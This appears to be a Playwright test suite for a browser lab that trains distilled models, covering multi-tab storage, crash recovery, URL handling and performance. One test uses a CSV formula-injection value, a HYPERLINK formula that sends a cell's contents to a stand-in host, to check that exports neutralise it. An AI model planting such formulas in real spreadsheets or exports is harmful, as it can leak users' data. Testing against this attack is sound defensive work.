import { chromium, expect, test, type BrowserContext, type Page } from '@playwright/test';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { copySavedModel, savedModelKeys, storedRecords } from './storage';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from './chromium';
import { watchPage } from './offline';
import { writeByHandTeacher } from './fixtures';

/** Two tabs of one origin share one store: nothing a second tab, a repeated value or a crash does loses a run. */

const LIVE = '/?preset=tiny&methods=kd&lambdas=0,1,2,3&teacherEpochs=6&studentEpochs=6&baseline=0';
const QUICK = '/?preset=tiny&teacherEpochs=1&studentEpochs=1&baseline=0';

async function finish(page: Page) {
  await page.getByTestId('distill').click();
  await expect(page.getByTestId('stage')).toHaveText('Done', { timeout: 240_000 });
}

test('a live sweep in tab A is shown as running in tab B, never offered to resume or discard; A stores every model', async ({
  context,
}) => {
  const a = await context.newPage();
  const watchA = watchPage(a);
  await a.goto(LIVE);
  await a.getByTestId('distill').click();
  await expect(a.getByTestId('progress-meta')).toContainText(/CKD λ=[0-2]run/, { timeout: 240_000 });

  const b = await context.newPage();
  const watchB = watchPage(b);
  await b.goto(LIVE);
  await expect(b.getByTestId('running-elsewhere')).toContainText('A sweep is running in another tab');
  await expect(b.getByTestId('resume-banner')).toHaveCount(0);
  await expect(b.getByTestId('discard-resume')).toHaveCount(0);
  await expect(b.getByTestId('resume')).toHaveCount(0);
  expect((await storedRecords(b)).sweeps).toHaveLength(1);

  await expect(a.getByTestId('stage')).toHaveText('Done', { timeout: 240_000 });
  // B hears that the sweep finished: its banner goes and the run is listed, without a reload.
  await expect(b.getByTestId('running-elsewhere')).toHaveCount(0);
  await expect(b.getByTestId('stored-run')).toHaveCount(1);
  const { runs, sweeps } = await storedRecords(a);
  expect(runs).toHaveLength(1);
  expect(sweeps).toEqual([]);
  const models = await savedModelKeys(a);
  expect(models).toHaveLength(5); // the teacher and the 4 students
  expect(models.every((k) => k.startsWith(`fairdistill/${runs[0]}/`))).toBe(true);
  for (const w of [watchA, watchB]) expect(w.pageErrors).toEqual([]);
});

test('two sweeps started in the same millisecond in two tabs get different ids: both runs and all 4 models are stored', async ({
  context,
}) => {
  // Both tabs read the same clock: the ids used to be run-<Date.now() in base 36>.
  await context.addInitScript(() => {
    Date.now = () => 1_767_225_600_000;
  });
  const [a, b] = [await context.newPage(), await context.newPage()];
  await Promise.all([a.goto(QUICK), b.goto(QUICK)]);
  await Promise.all([a.getByTestId('distill').click(), b.getByTestId('distill').click()]);
  await Promise.all([a, b].map((p) => expect(p.getByTestId('stage')).toHaveText('Done', { timeout: 240_000 })));
  await expect(a.getByTestId('stored-run')).toHaveCount(2);
  await expect(b.getByTestId('stored-run')).toHaveCount(2);
  const { runs } = await storedRecords(a);
  expect(runs).toHaveLength(2);
  const models = await savedModelKeys(a);
  expect(models).toHaveLength(4);
  for (const id of runs) expect(models.filter((k) => k.includes(`/${id}/`))).toHaveLength(2);
});

test('a repeated λ is trained once, with a note, from the URL and from the form', async ({ page }) => {
  await page.goto('/?preset=tiny&lambdas=0,0&teacherEpochs=1&studentEpochs=1&baseline=0');
  await expect(page.getByTestId('url-problems')).toContainText(
    'lambdas listed 0 more than once; each value is kept once.',
  );
  await finish(page);
  await expect(page.getByTestId('results-table').locator('[data-label="CKD λ=0"]')).toHaveCount(1);
  expect(await savedModelKeys(page)).toHaveLength(2);

  await page.getByTestId('lambdas').fill('1, 1, 2');
  await expect(page.getByTestId('form-notes')).toHaveText('λ 1 was listed more than once; each λ is trained once.');
  await finish(page);
  const rows = page.getByTestId('results-table').locator('[data-label^="CKD λ="]');
  await expect(rows).toHaveCount(2);
  expect((await storedRecords(page)).runs).toHaveLength(2);
  expect(await savedModelKeys(page)).toHaveLength(2 + 3);
});

test('a run name that is a spreadsheet formula lands in the downloaded CSVs as text', async ({ page }) => {
  await page.goto(QUICK);
  await finish(page);
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-json').click()]);
  const doc = JSON.parse(readFileSync((await file.path())!, 'utf8'));
  const formula = '=HYPERLINK("http://x/?"&B2,"open me")';
  doc.runs[0].name = formula;
  doc.runs[0].result.startedAt = new Date(0).toISOString(); // another run, not the stored one
  const dir = mkdtempSync(join(tmpdir(), 'fairdistill-csv-'));
  writeFileSync(join(dir, 'formula.json'), JSON.stringify(doc));
  await page.getByTestId('import-runs').setInputFiles(join(dir, 'formula.json'));
  await expect(page.getByTestId('stored-run')).toHaveCount(2);
  const [all] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-all-csv').click()]);
  const lines = readFileSync((await all.path())!, 'utf8')
    .trim()
    .split('\n');
  const importedRow = lines.find((l) => l.includes('HYPERLINK'))!;
  expect(importedRow.startsWith(`"'=HYPERLINK(""http://x/?""&B2,""open me"")"`)).toBe(true);
  expect(lines.every((l) => !/^"?[=+@]/.test(l))).toBe(true);
});

/** A browser on a profile folder of its own, so that what it stored outlives a crash of the whole browser. */
function launchProfile(dir: string, baseURL: string) {
  return chromium.launchPersistentContext(dir, {
    executablePath: CHROMIUM_PATH,
    args: CHROMIUM_ARGS,
    baseURL,
    viewport: { width: 1280, height: 800 },
  });
}

/**
 * Page.crash: the renderer dies mid-work and no unload runs. The headless browser goes down with it
 * (slowly, writing a crash dump), so once the page has crashed the browser is closed for good.
 */
async function crash(context: BrowserContext, page: Page) {
  const crashed = new Promise((resolve) => page.once('crash', resolve));
  const cdp = await context.newCDPSession(page);
  void cdp.send('Page.crash').catch(() => undefined);
  await Promise.race([crashed, new Promise((resolve) => setTimeout(resolve, 10_000))]);
  await context.close().catch(() => undefined);
}

test('a crash between a model’s save and its record leaves no orphan: removed at the next start, and Discard removes every model of its sweep', async ({
  baseURL,
}) => {
  const profile = mkdtempSync(join(tmpdir(), 'fairdistill-crash-'));
  let context = await launchProfile(profile, baseURL!);
  let page = await context.newPage();
  await page.goto(QUICK);
  await finish(page);
  const [run] = (await storedRecords(page)).runs;
  const before = await savedModelKeys(page);
  expect(before).toHaveLength(2);

  // The state a crash right after a save leaves: a model under a sweep id that has no record yet.
  await copySavedModel(page, before[0], 'fairdistill/run-crashed/CKD_λ=0');
  expect(await savedModelKeys(page)).toHaveLength(3);
  await crash(context, page);
  context = await launchProfile(profile, baseURL!);
  page = await context.newPage();
  await page.goto(QUICK);
  await expect.poll(() => savedModelKeys(page)).toEqual(before);
  expect((await storedRecords(page)).runs).toEqual([run]);

  // A sweep crashed mid-way, then discarded: its teacher, its finished student and a model saved after
  // its last record all go; the stored run keeps its own.
  await page.goto('/?preset=tiny&methods=kd&lambdas=0,1&teacherEpochs=2&studentEpochs=6&baseline=0');
  await page.getByTestId('distill').click();
  await expect(page.getByTestId('progress-meta')).toContainText(/CKD λ=1run 3\/3epoch [2-5]\/6/, {
    timeout: 240_000,
  });
  const sweepId = (await storedRecords(page)).sweeps[0];
  const mine = (keys: string[]) => keys.filter((k) => k.startsWith(`fairdistill/${sweepId}/`));
  const mid = mine(await savedModelKeys(page));
  expect(mid).toHaveLength(2); // the teacher and CKD λ=0
  await copySavedModel(page, mid[0], `fairdistill/${sweepId}/CKD_λ=1`);
  await crash(context, page);
  context = await launchProfile(profile, baseURL!);
  page = await context.newPage();
  await page.goto(QUICK);
  await expect(page.getByTestId('resume-banner')).toBeVisible();
  expect(mine(await savedModelKeys(page))).toHaveLength(3); // an interrupted sweep's models wait for resume or discard
  await page.getByTestId('discard-resume').click();
  await expect(page.getByTestId('resume-banner')).toHaveCount(0);
  await expect.poll(() => savedModelKeys(page)).toEqual(before);
  expect(await storedRecords(page)).toEqual({ runs: [run], sweeps: [] });
  await context.close();
});

test('imported teachers are listed with their size and can be deleted', async ({ page }) => {
  await page.goto(QUICK);
  const files = writeByHandTeacher();
  for (let i = 0; i < 3; i++) {
    await page.getByTestId('teacher-import').setInputFiles(files);
    await expect(page.getByTestId('teacher-imported')).toContainText('byhand');
    if (i < 2) await page.getByText('Train one instead').click();
  }
  const listed = page.getByTestId('stored-teacher');
  await page.getByText(/Imported teachers kept in this browser/).click();
  await expect(listed).toHaveCount(3);
  await expect(listed.first()).toContainText(/^byhand · 1[23] KB/);
  expect(await savedModelKeys(page)).toHaveLength(3);
  page.on('dialog', (d) => void d.accept());
  await listed.first().getByRole('button', { name: 'Delete the imported teacher byhand' }).click();
  await expect(listed).toHaveCount(2);
  expect(await savedModelKeys(page)).toHaveLength(2);
  await page.reload();
  await page.getByText(/Imported teachers kept in this browser/).click();
  await expect(page.getByTestId('stored-teacher')).toHaveCount(2);
});

test('the database opened at a newer version by another tab: this tab says to reload, and its finished run stays exportable', async ({
  context,
}) => {
  const page = await context.newPage();
  await page.goto('/?preset=tiny&teacherEpochs=6&studentEpochs=2&baseline=0');
  await page.getByTestId('distill').click();
  await expect(page.getByTestId('progress-meta')).toContainText(/Teacher.*epoch [2-5]\/6/, { timeout: 240_000 });
  const other = await context.newPage();
  await other.goto('/favicon.svg'); // the same origin, without the lab's code
  const version = await other.evaluate(
    () =>
      new Promise<number>((resolve, reject) => {
        const open = indexedDB.open('fairdistill-lab', 4);
        open.onerror = () => reject(open.error ?? new Error('indexedDB.open failed'));
        open.onsuccess = () => resolve(open.result.version);
      }),
  );
  expect(version).toBe(4);
  await expect(page.getByTestId('error')).toContainText(
    'the lab was opened in a newer version in another tab — reload',
  );
  await expect(page.getByTestId('stage')).toHaveText('Done', { timeout: 240_000 });
  await expect(page.getByTestId('error')).toContainText(
    'The run finished but could not be stored: the lab was opened in a newer version in another tab — reload',
  );
  await expect(page.getByTestId('export-unstored')).toBeVisible();
  await expect(page.getByTestId('error')).not.toContainText('InvalidStateError');
});

test('the address bar never holds more than 2,000 characters: a 10,000-value λ list is left out of it, named, and a reload works', async ({
  page,
}) => {
  await page.goto(QUICK);
  const many = Array.from({ length: 10_000 }, (_, i) => (i / 100).toFixed(2)).join(',');
  await page.getByTestId('lambdas').fill(many);
  await expect(page.getByTestId('link-left-out')).toContainText('lambdas left out');
  expect(page.url().length).toBeLessThanOrEqual(2000);
  expect((await page.getByTestId('share-setup').getAttribute('href'))!.length).toBeLessThanOrEqual(2000);
  const reload = await page.reload();
  expect(reload!.status()).toBe(200);
  await expect(page.getByTestId('distill')).toBeEnabled();
});

test('unknown and malformed URL keys are listed with the others', async ({ page }) => {
  await page.goto('/?preset=tiny&seed=-0&lambda=5&foo=bar&baseline=0');
  const problems = page.getByTestId('url-problems');
  await expect(problems).toContainText('seed must be a whole number from 0 to 2147483647 (got "-0"); it was ignored.');
  await expect(problems).toContainText('lambda is not a setting of the lab; it was ignored.');
  await expect(problems).toContainText('foo is not a setting of the lab; it was ignored.');
});

test('the first render of a finished run has no main-thread task over 200 ms; the 3D view is drawn as it comes into view', async ({
  page,
}) => {
  await page.addInitScript(() => {
    const w = window as unknown as { longTasks: { start: number; duration: number }[] };
    w.longTasks = [];
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) w.longTasks.push({ start: e.startTime, duration: e.duration });
    }).observe({ type: 'longtask', buffered: true });
  });
  const tasksSince = (t: number) =>
    page.evaluate(
      (t) =>
        (window as unknown as { longTasks: { start: number; duration: number }[] }).longTasks
          .filter((x) => x.start >= t)
          .map((x) => Math.round(x.duration)),
      t,
    );
  await page.goto(QUICK);
  await finish(page);
  const done = await page.evaluate(() => performance.now());
  await expect(page.getByTestId('results-table')).toBeVisible();
  await expect(page.getByTestId('pareto-chart').locator('.main-svg').first()).toBeAttached();
  await page.waitForTimeout(5000); // the charts, the table and whatever idle work follows
  const first = await tasksSince(done);
  console.log(`long tasks in the 5 s after the run finished (ms): ${JSON.stringify(first)}`);
  expect(Math.max(0, ...first)).toBeLessThanOrEqual(200);
  expect(await page.getByTestId('surface-panel').getAttribute('data-mode')).toBe('pending');
  // Scrolled to, the 3D view is drawn (the gl3d bundle and its shaders: one long task, reported here).
  const before3d = await page.evaluate(() => performance.now());
  await page.getByTestId('surface-panel').scrollIntoViewIfNeeded();
  await expect(page.getByTestId('surface-panel')).not.toHaveAttribute('data-mode', 'pending');
  await page.waitForTimeout(3000);
  console.log(`long tasks as the 3D view came into view (ms): ${JSON.stringify(await tasksSince(before3d))}`);
});
